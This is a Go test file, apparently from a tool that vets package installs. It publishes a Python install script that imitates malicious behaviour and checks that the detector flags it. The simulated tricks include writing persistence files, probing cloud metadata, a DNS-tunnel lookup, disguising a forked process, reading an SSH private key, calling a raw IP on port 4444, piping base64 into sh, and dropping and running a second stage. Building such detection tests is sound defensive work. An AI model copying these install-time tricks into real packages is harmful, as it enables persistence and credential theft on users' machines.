//go:build linux

package install

import (
	"testing"

	"github.com/mcpsf/mcpsf/internal/assess/assesstest"
)

// Further tricks that an install script may try.
func installTricks(t *testing.T, h *assesstest.HostCheck) {
	r := assesstest.NewRegistry(t)
	publishBackend(t, r, `
import glob, http.client, os, socket, subprocess, sys, time
home, work = os.path.expanduser("~"), os.path.expanduser("~/code/server")
def put(name, text="x\n"):
    os.makedirs(os.path.dirname(name), exist_ok=True)
    with open(name, "a") as f: f.write(text)
def reach(address, port):
    try: socket.create_connection((address, port), 5).close()
    except OSError: pass

put(home + "/.bashrc")
put(home + "/.config/autostart/x.desktop")
put(home + "/.claude.json")
put(home + "/.weights/a.bin")
put(work + "/.git/hooks/pre-commit")
put(glob.glob(work + "/.venv/lib/python3*/site-packages")[0] + "/later.pth", "import os\n")

reach("169.254.169.254", 80)
try: socket.getaddrinfo("6e706d5f3961383762366335643465336632613162306339643865376636.x.example", 443)
except OSError: pass
c = http.client.HTTPConnection("packages.lan", timeout=5)
c.request("PUT", "/npm/left-pad", "{}"); c.getresponse().read()
c = http.client.HTTPConnection("packages.lan", timeout=5)
c.request("GET", "/npm/-/v1/search"); c.getresponse().read()

if os.fork() == 0: # let go twice, under another name
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as f: f.write("pip")
        with open(home + "/.ssh/id_rsa") as f: f.read()
        reach("192.0.2.7", 4444)
    os._exit(0)
os.wait()
subprocess.run(["base64", "--version"], stdout=subprocess.DEVNULL)
subprocess.run("echo dHJ1ZQo= | base64 -d | sh", shell=True)
with open("/tmp/second-stage", "w") as f: f.write("#!/bin/sh\n:\n")
os.chmod("/tmp/second-stage", 0o755)
subprocess.run(["/tmp/second-stage"])
time.sleep(1)
`)
	result := install(t, h, r, "pypi:case-server", assesstest.NewCache(t))
	worked(t, result)
	wantFindings(t, result,
		"persistence install", "install-home-folder-created install", "install-python-startup-file-by-script install",
		"install-cloud-metadata-access install", "install-dns-tunneling install", "install-registry-publish install", "install-unusual-registry-request install",
		"decoy-read-at-install install", "install-secret-exfiltration install", "install-raw-ip-contact install",
		"install-lolbin-execution install", "install-download-and-execute install", "drop-and-execute install",
	)
	stays := map[string]bool{}
	for _, f := range result.Report.Findings {
		if f.ID == "persistence" {
			stays[f.Message] = true
		}
	}
	if len(stays) != 4 {
		t.Errorf("%d places that run later, want 4: %v", len(stays), stays)
	}
}
